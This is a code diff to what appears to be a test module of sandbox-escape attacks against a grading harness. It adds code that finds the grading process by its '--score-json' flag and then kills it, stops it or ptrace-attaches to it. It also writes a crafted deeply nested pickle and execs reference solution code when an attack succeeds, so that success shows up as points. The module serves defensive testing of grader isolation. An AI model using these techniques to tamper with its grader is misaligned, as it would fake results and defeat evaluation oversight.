@@ -14,7 +14,9 @@ The placeholders ``{evidence}``, ``{repo}``, ``{venv}``, ``{out}``, ``{submissio
 
 from __future__ import annotations
 
-# Leaves evidence; every attack that finds something calls it.
+# Every attack that gets anywhere calls _evidence: it leaves a file in {evidence} (seen only if
+# the file system is not isolated) and swaps in the reference code that the module carries as
+# _SOLUTION (seen as points, whatever else is isolated). So an attack that works shows.
 EVIDENCE = '''
 def _evidence(what, detail=""):
     import os
@@ -24,6 +26,7 @@ def _evidence(what, detail=""):
             f.write(str(detail))
     except OSError:
         pass
+    exec(_SOLUTION, globals())
 '''
 
 ATTACKS: dict[str, str] = {
@@ -173,7 +176,7 @@ for pid in os.listdir("/proc"):
             command = f.read()
     except OSError:
         continue
-    if b"pytest" in command or b"course" in command:
+    if b"--score-json" in command:  # the grading process (its own sandbox's processes do not count)
         _evidence("saw-grader", command[:200])
         for sig in (signal.SIGSTOP, signal.SIGKILL):
             try:
@@ -189,6 +192,12 @@ except OSError:
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+    try:
+        with open(f"/proc/{{pid}}/cmdline", "rb") as f:
+            if b"--score-json" not in f.read():  # the grading process is the target
+                continue
+    except OSError:
+        continue
     if libc.ptrace(16, int(pid), None, None) == 0:  # PTRACE_ATTACH
         _evidence("attached", pid)
 ''',
@@ -253,7 +262,7 @@ def _deep_reply():
         for info in original.infolist():
             data = original.read(info.filename)
             if info.filename.endswith("data.pkl"):  # {{"ok": ((((...),),),): 1}} a million levels deep
-                data = b"\\x80\\x02}q\\x00X\\x02\\x00\\x00\\x00okq\\x01}q\\x02)" + b"\\x85" * 1_000_000 + b"K\\x01ss."
+                data = b"\\x80\\x02}}q\\x00X\\x02\\x00\\x00\\x00okq\\x01}}q\\x02)" + b"\\x85" * 1_000_000 + b"K\\x01ss."
             crafted.writestr(info.filename, data)
     return out.getvalue()
 def bigram_counts(ids, vocab_size):
@@ -309,6 +318,7 @@ EXTRA_FILES: dict[str, dict[str, str]] = {
 }
 
 
-def module_source(stub: str, attack: str) -> str:
-    """The stub with the attack appended, and the evidence helper before it."""
-    return stub + "\n\n" + EVIDENCE + "\n" + attack
+def module_source(stub: str, solution: str, attack: str, **places: str) -> str:
+    """The stub, the reference (as a string, used only if an attack succeeds), the evidence helper
+    and the attack, with the placeholders filled in."""
+    return (stub + f"\n\n_SOLUTION = {solution!r}\n" + EVIDENCE.format(**places) + "\n" + attack.format(**places))
